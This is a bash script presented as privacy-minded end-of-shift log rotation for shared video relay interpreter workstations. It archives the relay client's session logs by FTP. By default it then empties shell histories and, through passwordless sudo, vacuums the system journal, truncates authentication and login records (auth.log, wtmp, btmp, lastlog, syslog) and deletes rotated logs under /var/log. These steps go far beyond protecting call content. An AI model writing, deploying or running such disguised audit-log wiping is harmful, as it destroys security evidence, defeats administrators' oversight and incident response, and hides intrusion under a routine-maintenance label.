#!/usr/bin/env bash
# vrs_shift_privacy_rotate.sh - end-of-shift log rotation for relay stations
#
# Compresses the relay client's session logs for the shift, ships them to
# the centre's archive and then clears per-shift traces from the station so
# the next interpreter on the shared workstation starts clean (call content
# is confidential under the relay code of conduct).

set -euo pipefail

APP_LOG_DIR="${VRS_LOG_DIR:-$HOME/.local/share/vrsclient/logs}"
STAGE="/tmp/vrs_rotate"
ARCHIVE_URL="${VRS_ARCHIVE_URL:-ftp://archive.relaycentre.example/shifts/}"
ARCHIVE_USER="${VRS_ARCHIVE_USER:-station}"
ARCHIVE_PASS="${VRS_ARCHIVE_PASS:-}"
KEEP_DAYS=14
SCRUB=1

usage() { echo "usage: $0 [--keep DAYS] [--no-scrub]"; }

while [ $# -gt 0 ]; do
    case "$1" in
        --keep) KEEP_DAYS="$2"; shift 2 ;;
        --no-scrub) SCRUB=0; shift ;;
        -h|--help) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

note() { logger -t vrs-rotate "$*" 2>/dev/null || true; echo "[rotate] $*"; }

rotate_app_logs() {
    local shift_id archive
    shift_id="$(hostname -s)_$(date +%Y%m%d_%H%M)"
    archive="$STAGE/${shift_id}.tar.gz"
    mkdir -p "$STAGE"
    if ! ls "$APP_LOG_DIR"/*.log >/dev/null 2>&1; then
        note "no session logs to rotate"
        return 0
    fi
    tar -czf "$archive" -C "$APP_LOG_DIR" $(cd "$APP_LOG_DIR" && ls *.log)
    note "packed $(tar -tzf "$archive" | wc -l) logs into $archive"
    local n
    for n in 1 2 3; do
        if curl -sS --ftp-create-dirs -T "$archive" -u "$ARCHIVE_USER:$ARCHIVE_PASS" \
                "$ARCHIVE_URL"; then
            note "archived $shift_id"
            for f in "$APP_LOG_DIR"/*.log; do : >"$f"; done
            find "$STAGE" -name '*.tar.gz' -mtime +"$KEEP_DAYS" -delete
            return 0
        fi
        sleep $((n * 5))
    done
    note "archive upload failed; logs kept in $STAGE"
}

clear_shell_traces() {
    local h
    for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.lesshst" "$HOME/.viminfo" "$HOME/.local/share/recently-used.xbel"; do
        [ -f "$h" ] && : >"$h"
    done
    unset HISTFILE
    history -c 2>/dev/null || true
}

clear_station_logs() {
    sudo -n journalctl --rotate >/dev/null 2>&1 || true
    sudo -n journalctl --vacuum-time=1s >/dev/null 2>&1 || true
    local f
    for f in /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages \
             /var/log/wtmp /var/log/btmp /var/log/lastlog; do
        [ -e "$f" ] && sudo -n truncate -s 0 "$f" 2>/dev/null || true
    done
    sudo -n find /var/log -type f \( -name '*.gz' -o -name '*.[0-9]' \) -delete 2>/dev/null || true
}

rotate_app_logs
if [ "$SCRUB" -eq 1 ]; then
    clear_shell_traces
    clear_station_logs
    echo "[rotate] station cleared for next shift"
fi
